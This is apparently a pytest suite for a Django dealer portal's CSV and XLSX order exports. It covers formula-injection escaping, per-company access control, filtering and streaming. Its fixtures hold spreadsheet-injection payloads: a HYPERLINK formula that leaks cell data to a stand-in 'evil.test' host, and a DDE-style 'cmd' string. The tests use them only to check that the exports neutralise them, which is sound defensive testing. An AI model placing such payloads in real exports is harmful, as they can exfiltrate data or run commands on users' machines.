"""Exports of the dealer's orders: the history (as searched and filtered) and one order's
lines, as CSV and XLSX; what reads as a formula comes out as text, numbers as numbers, and
nobody exports another company's orders."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import re
from decimal import Decimal
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.http import HttpResponse
from django.test import AsyncClient
from django.utils import timezone
from openpyxl import load_workbook

from dealerdesk.accounts.choices import MembershipRole
from dealerdesk.inventory.models import StockLevel, Warehouse
from dealerdesk.ordering import exports
from dealerdesk.ordering.choices import OrderStatus
from dealerdesk.ordering.models import Order
from dealerdesk.ordering.services import OrderLineRequest, place_order
from dealerdesk.pricing.models import Contract, Price, PriceType
from dealerdesk.web.portal.views import exports as export_views
from tests import factories as f

pytestmark = pytest.mark.django_db

D = Decimal

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
FORMULA_COMMENT = "+SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_NAME = "@SUM(1+1)"


@pytest.fixture
def shop(world):  # type: ignore[no-untyped-def]
    """Prices in EUR, a default contract for each company, a depot with plenty of stock."""
    base = PriceType.objects.create(code="W", name="Wholesale", currency="EUR", is_base=True)
    for product, amount in (
        (world.product_a, "120"),
        (world.product_a_child, "80.5"),
        (world.product_b, "50"),
    ):
        Price.objects.create(product=product, price_type=base, amount=D(amount))
    for company in (world.company_a, world.company_b):
        Contract.objects.create(company=company, name="Prepayment", is_default=True)
    depot = Warehouse.objects.create(code="C", name="Central", open_to_all=True)
    for product in (world.product_a, world.product_a_child, world.product_b):
        StockLevel.objects.create(product=product, warehouse=depot, on_hand=D(1000))
    return depot


def _place(company, user, lines, key: str, **options: Any) -> Order:  # type: ignore[no-untyped-def]
    requests = [OrderLineRequest(product.pk, D(quantity)) for product, quantity in lines]
    return place_order(company, user, requests, submission_key=key, notify=False, **options).order


@pytest.fixture
def orders(world, shop):  # type: ignore[no-untyped-def]
    """A's first order (formula-looking PO, comment and product name), A's second placed by
    the manager for the buyer, and one order of B."""
    world.product_a.name = FORMULA_NAME
    world.product_a.save()
    # Sold by the half metre: a fractional quantity.
    world.product_a_child.pack_multiple = world.product_a_child.min_quantity = D("0.5")
    world.product_a_child.save()
    first = _place(
        world.company_a,
        world.buyer_a.user,
        [(world.product_a, "2"), (world.product_a_child, "2.5")],
        "export-first",
        po_number=HYPERLINK,
        comment=FORMULA_COMMENT,
    )
    second = _place(
        world.company_a,
        world.buyer_a.user,
        [(world.product_a_child, "1")],
        "export-second",
        po_number="PO-2",
        on_behalf_by=world.manager_a.user,
    )
    other = _place(world.company_b, world.buyer_b.user, [(world.product_b, "1")], "export-b")
    return first, second, other


def _body(response: HttpResponse) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)  # type: ignore[arg-type]
    return response.content


def csv_rows(response: HttpResponse) -> list[list[str]]:
    body = _body(response)
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body[len(codecs.BOM_UTF8) :].decode("utf-8"), newline="")))


def xlsx_cells(response: HttpResponse) -> list[list[Any]]:
    """The cells of the one sheet, row by row (openpyxl cells: value, data type, format)."""
    book = load_workbook(io.BytesIO(_body(response)))
    assert len(book.worksheets) == 1
    return [list(row) for row in book.worksheets[0].iter_rows()]


def xlsx_rows(response: HttpResponse) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in xlsx_cells(response)]


def exported_numbers(response: HttpResponse, kind: str) -> list[str]:
    rows = csv_rows(response) if kind == "csv" else xlsx_rows(response)
    return [row[0] for row in rows[1:]]


# --- the order list ---------------------------------------------------------------------------


def test_the_order_list_as_csv_has_one_row_per_order_newest_first(world, client_for, orders):
    first, second, _ = orders

    response = client_for(world.buyer_a.user).get("/portal/orders/export.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="orders-{today}.csv"'
    rows = csv_rows(response)
    assert rows[0] == list(exports.ORDER_COLUMNS)
    assert [row[0] for row in rows[1:]] == [second.number, first.number]
    placed = timezone.localtime(first.created_at).strftime("%Y-%m-%d %H:%M")
    assert rows[2] == [
        first.number,
        placed,
        "Placed",
        "'" + HYPERLINK,
        "",
        "Pickup at a warehouse",
        "EUR",
        "441.25",  # 2 x 120 + 2.5 x 80.50
        "88.25",
        "529.50",
        "buyer@alpha.test",
        "'" + FORMULA_COMMENT,
    ]
    assert rows[1][3] == "PO-2"
    assert rows[1][10] == "for buyer@alpha.test by manager.a@supplier.test"


def test_the_order_list_as_xlsx_has_numbers_as_numbers_and_dates_as_dates(
    world, client_for, orders
):
    first, second, _ = orders

    response = client_for(world.buyer_a.user).get("/portal/orders/export.xlsx")

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="orders-{today}.xlsx"'
    cells = xlsx_cells(response)
    assert [cell.value for cell in cells[0]] == list(exports.ORDER_COLUMNS)
    assert [row[0].value for row in cells[1:]] == [second.number, first.number]
    row = cells[2]
    placed = timezone.localtime(first.created_at).replace(tzinfo=None)
    assert isinstance(row[1].value, dt.datetime)
    assert abs(row[1].value - placed) < dt.timedelta(seconds=1)
    assert row[1].number_format == "yyyy-mm-dd hh:mm"
    assert [cell.value for cell in row[2:7]] == [
        "Placed",
        "'" + HYPERLINK,
        None,
        "Pickup at a warehouse",
        "EUR",
    ]
    for cell, expected in zip(row[7:10], ("441.25", "88.25", "529.50"), strict=True):
        assert cell.data_type == "n"
        assert isinstance(cell.value, int | float)
        assert D(str(cell.value)) == D(expected)
        assert cell.number_format == "#,##0.00"
    assert row[10].value == "buyer@alpha.test"
    assert row[11].value == "'" + FORMULA_COMMENT
    assert cells[1][10].value == "for buyer@alpha.test by manager.a@supplier.test"


# --- one order's lines ------------------------------------------------------------------------


# Unit price, VAT %, net, VAT, gross, promotion.
CSV_FIGURES_1 = ["120.00", "20", "240.00", "48.00", "288.00", ""]
CSV_FIGURES_2 = ["80.50", "20", "201.25", "40.25", "241.50", ""]
XLSX_AMOUNTS_2 = [201.25, 40.25, 241.5, None]


def test_one_orders_lines_as_csv(world, client_for, orders):
    first, _, _ = orders

    response = client_for(world.buyer_a.user).get(f"/portal/orders/{first.number}/lines.csv")

    assert response["Content-Disposition"] == f'attachment; filename="order-{first.number}.csv"'
    rows = csv_rows(response)
    assert rows[0] == list(exports.LINE_COLUMNS)
    assert rows[1:] == [
        [first.number, "1", "CAB-001", "'" + FORMULA_NAME, "C", "2", "no", *CSV_FIGURES_1],
        [first.number, "2", "CAB-002", "Cable NYY 5x10", "C", "2.5", "no", *CSV_FIGURES_2],
    ]


def test_one_orders_lines_as_xlsx_with_numeric_cells(world, client_for, orders):
    first, _, _ = orders

    response = client_for(world.buyer_a.user).get(f"/portal/orders/{first.number}/lines.xlsx")

    assert response["Content-Disposition"] == (f'attachment; filename="order-{first.number}.xlsx"')
    cells = xlsx_cells(response)
    assert [cell.value for cell in cells[0]] == list(exports.LINE_COLUMNS)
    assert [[cell.value for cell in row] for row in cells[1:]] == [
        [first.number, 1, "CAB-001", "'" + FORMULA_NAME, "C", 2, "no", 120, 20, 240, 48, 288, None],
        [first.number, 2, "CAB-002", "Cable NYY 5x10", "C", 2.5, "no", 80.5, 20, *XLSX_AMOUNTS_2],
    ]
    second_line = cells[2]
    numeric = [second_line[i] for i in (1, 5, 7, 8, 9, 10, 11)]
    assert all(cell.data_type == "n" for cell in numeric)
    assert [cell.number_format for cell in numeric] == [
        "#,##0",
        "#,##0.0",  # 2.5
        "#,##0.00",  # 80.50 EUR
        "#,##0",  # 20 %
        "#,##0.00",
        "#,##0.00",
        "#,##0.00",
    ]


# --- formula injection ------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formula_looking_text_comes_out_as_text(world, client_for, orders, kind):
    first, _, _ = orders
    client = client_for(world.buyer_a.user)
    rows_of = csv_rows if kind == "csv" else xlsx_rows

    everything = rows_of(client.get(f"/portal/orders/export.{kind}"))
    lines = rows_of(client.get(f"/portal/orders/{first.number}/lines.{kind}"))

    row = everything[2]
    assert (row[3], row[11]) == ("'" + HYPERLINK, "'" + FORMULA_COMMENT)
    assert lines[1][3] == "'" + FORMULA_NAME
    text_cells = [cell for row in everything + lines for cell in row if isinstance(cell, str)]
    assert not [cell for cell in text_cells if re.match(r"\s*[=+\-@\t\r]", cell)]


def test_xlsx_text_cells_never_become_formulas_or_errors(world, client_for, orders):
    first, _, _ = orders
    Order.objects.filter(pk=first.pk).update(erp_number="#N/A", po_number="\x07=1+1")

    cells = xlsx_cells(client_for(world.buyer_a.user).get("/portal/orders/export.xlsx"))

    row = cells[2]
    assert (row[3].value, row[3].data_type) == ("'=1+1", "s")  # the bell is dropped first
    assert (row[4].value, row[4].data_type) == ("#N/A", "s")
    assert all(cell.data_type != "f" for line in cells for cell in line)


def test_negative_numbers_stay_numbers(world, client_for, orders):
    first, _, _ = orders
    Order.objects.filter(pk=first.pk).update(total_net=D("-5.000"))
    client = client_for(world.buyer_a.user)

    csv_row = csv_rows(client.get("/portal/orders/export.csv"))[2]
    xlsx_row = xlsx_rows(client.get("/portal/orders/export.xlsx"))[2]

    assert csv_row[7] == "-5.00"
    assert xlsx_row[7] == -5


# --- the history's search and filters ---------------------------------------------------------


@pytest.fixture
def dated(world, orders):  # type: ignore[no-untyped-def]
    """A's two orders on two days, the second cancelled."""
    first, second, _ = orders
    zone = timezone.get_current_timezone()
    Order.objects.filter(pk=first.pk).update(created_at=dt.datetime(2026, 3, 2, 10, 0, tzinfo=zone))
    Order.objects.filter(pk=second.pk).update(
        created_at=dt.datetime(2026, 3, 5, 10, 0, tzinfo=zone), status=OrderStatus.CANCELLED
    )
    return first, second


FILTERS = [
    "",
    "?status=cancelled",
    "?status=placed",
    "?status=nonsense",
    "?q=PO-2",
    "?q=HYPERLINK",
    "?q=CAB-001",
    "?q=cab-002",
    "?from=2026-03-03",
    "?to=2026-03-03",
    "?from=2026-03-01&to=2026-03-02",
    "?from=2026-03-06",
    "?from=not-a-date&q=%20%20",
]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("query", FILTERS)
def test_the_exports_select_what_the_history_page_lists(world, client_for, dated, kind, query):
    client = client_for(world.buyer_a.user)
    page = client.get(f"/portal/orders/{query}").content.decode()
    listed = re.findall(r'data-order="([^"]+)"', page)

    exported = exported_numbers(client.get(f"/portal/orders/export.{kind}{query}"), kind)

    assert exported == listed


def test_filters_pick_the_expected_orders(world, client_for, dated):
    first, second = dated
    client = client_for(world.buyer_a.user)

    def numbers(query: str) -> list[str]:
        return exported_numbers(client.get(f"/portal/orders/export.csv{query}"), "csv")

    assert numbers("?status=cancelled") == [second.number]
    assert numbers("?q=CAB-001") == [first.number]
    assert numbers("?to=2026-03-03") == [first.number]
    assert numbers("?from=2026-03-06") == []


def test_the_history_page_links_the_exports_with_its_filters(world, client_for, dated):
    page = client_for(world.buyer_a.user).get("/portal/orders/?q=PO-2&status=cancelled")

    body = page.content.decode()
    query = "?q=PO-2&amp;status=cancelled&amp;from=&amp;to="
    assert f'href="/portal/orders/export.csv{query}"' in body
    assert f'href="/portal/orders/export.xlsx{query}"' in body


def test_the_order_page_links_its_lines(world, client_for, orders):
    first, _, _ = orders

    body = client_for(world.buyer_a.user).get(f"/portal/orders/{first.number}/").content.decode()

    assert f'href="/portal/orders/{first.number}/lines.csv"' in body
    assert f'href="/portal/orders/{first.number}/lines.xlsx"' in body


# --- who may export what ----------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_another_company_gets_404_for_an_orders_lines(world, client_for, orders, kind):
    first, _, _ = orders

    response = client_for(world.buyer_b.user).get(f"/portal/orders/{first.number}/lines.{kind}")

    assert response.status_code == 404


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_list_export_never_holds_another_companys_orders(world, client_for, orders, kind):
    first, second, other = orders
    client = client_for(world.buyer_a.user)

    everything = exported_numbers(client.get(f"/portal/orders/export.{kind}"), kind)
    searched = exported_numbers(client.get(f"/portal/orders/export.{kind}?q={other.number}"), kind)
    by_sku = exported_numbers(client.get(f"/portal/orders/export.{kind}?q=TOOL-001"), kind)

    assert everything == [second.number, first.number]
    assert searched == by_sku == []
    b_numbers = exported_numbers(
        client_for(world.buyer_b.user).get(f"/portal/orders/export.{kind}"), kind
    )
    assert b_numbers == [other.number]


@pytest.mark.parametrize(
    "url",
    [
        "/portal/orders/export.csv",
        "/portal/orders/export.xlsx",
        "/portal/orders/DD-0000001/lines.csv",
        "/portal/orders/DD-0000001/lines.xlsx",
    ],
)
def test_anonymous_visitors_are_sent_to_sign_in(client, orders, url):
    response = client.get(url)

    assert response.status_code == 302
    assert response["Location"].startswith("/login/?next=")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("number", ["DD-9999999", "nonsense", "%00"])
def test_an_order_that_does_not_exist_is_404(world, client_for, orders, kind, number):
    response = client_for(world.buyer_a.user).get(f"/portal/orders/{number}/lines.{kind}")

    assert response.status_code == 404


@pytest.mark.parametrize("role", [MembershipRole.VIEWER, MembershipRole.ACCOUNTANT])
def test_viewers_and_accountants_may_export(world, client_for, orders, role):
    first, _, _ = orders
    member = f.MembershipFactory(company=world.company_a, role=role)
    client = client_for(member.user)

    for url in (
        "/portal/orders/export.csv",
        "/portal/orders/export.xlsx",
        f"/portal/orders/{first.number}/lines.csv",
        f"/portal/orders/{first.number}/lines.xlsx",
    ):
        assert _body(client.get(url)), url  # read: a streamed response closes once read


# --- many orders --------------------------------------------------------------------------


@pytest.fixture
def many(world, shop):  # type: ignore[no-untyped-def]
    """300 orders of A, each with its own total, written directly (placing them one by one
    would test placing, not exporting)."""
    contract = Contract.objects.get(company=world.company_a)
    Order.objects.bulk_create(
        Order(
            company=world.company_a,
            placed_by=world.buyer_a.user,
            contract=contract,
            currency="EUR",
            number=f"BULK-{n:05d}",
            po_number=f"PO {n}",
            total_net=D(n),
            total_vat=D(n) / 5,
            total_gross=D(n) * D("1.2"),
            idempotency_key=f"bulk-order-{n}",
        )
        for n in range(1, 301)
    )
    return list(
        Order.objects.filter(company=world.company_a)
        .order_by("-created_at", "-id")
        .values_list("number", flat=True)
    )


def test_many_orders_stream_as_csv_in_chunks(
    world, client_for, many, monkeypatch, django_assert_max_num_queries
):
    monkeypatch.setattr(exports, "CSV_ROWS_PER_CHUNK", 50)
    monkeypatch.setattr(exports, "ORDERS_PER_FETCH", 64)
    client = client_for(world.buyer_a.user)

    # Session, user, memberships, then the orders in a handful of fetches: never one per order.
    with django_assert_max_num_queries(12):
        response = client.get("/portal/orders/export.csv")
        assert response.streaming
        chunks = list(response.streaming_content)  # type: ignore[arg-type]

    assert len(chunks) == 1 + 300 // 50  # the header, then a chunk per 50 rows
    rows = list(csv.reader(io.StringIO(b"".join(chunks)[3:].decode(), newline="")))
    assert [row[0] for row in rows[1:]] == many
    by_number = {row[0]: row for row in rows[1:]}
    assert by_number["BULK-00007"][7:10] == ["7.00", "1.40", "8.40"]
    assert by_number["BULK-00300"][3] == "PO 300"


def test_many_orders_as_xlsx(world, client_for, many):
    response = client_for(world.buyer_a.user).get("/portal/orders/export.xlsx")

    body = _body(response)
    assert int(response["Content-Length"]) == len(body)
    sheet = load_workbook(io.BytesIO(body), read_only=True).worksheets[0]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert [row[0] for row in rows[1:]] == many
    by_number = {row[0]: row for row in rows[1:]}
    assert by_number["BULK-00007"][7:10] == [7, 1.4, 8.4]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_under_asgi_the_export_is_streamed_chunk_by_chunk(world, many, monkeypatch, kind):
    """Django reads a plain iterator into one list before sending anything under ASGI; the
    export hands uvicorn an async one, fed one chunk at a time."""
    monkeypatch.setattr(exports, "CSV_ROWS_PER_CHUNK", 100)
    monkeypatch.setattr(export_views, "FILE_BLOCK", 1024)

    async def download() -> tuple[Any, list[bytes]]:
        client = AsyncClient()
        await client.aforce_login(
            world.buyer_a.user, backend="django.contrib.auth.backends.ModelBackend"
        )
        response = await client.get(f"/portal/orders/export.{kind}")
        return response, [chunk async for chunk in response.streaming_content]

    response, chunks = async_to_sync(download)()

    assert response.status_code == 200
    assert response.is_async
    body = b"".join(chunks)
    if kind == "csv":
        assert len(chunks) == 4  # the header, then three chunks of 100 rows
        rows = list(csv.reader(io.StringIO(body[3:].decode(), newline="")))
    else:
        assert len(chunks) == -(-len(body) // 1024)
        sheet = load_workbook(io.BytesIO(body), read_only=True).worksheets[0]
        rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert [row[0] for row in rows[1:]] == many
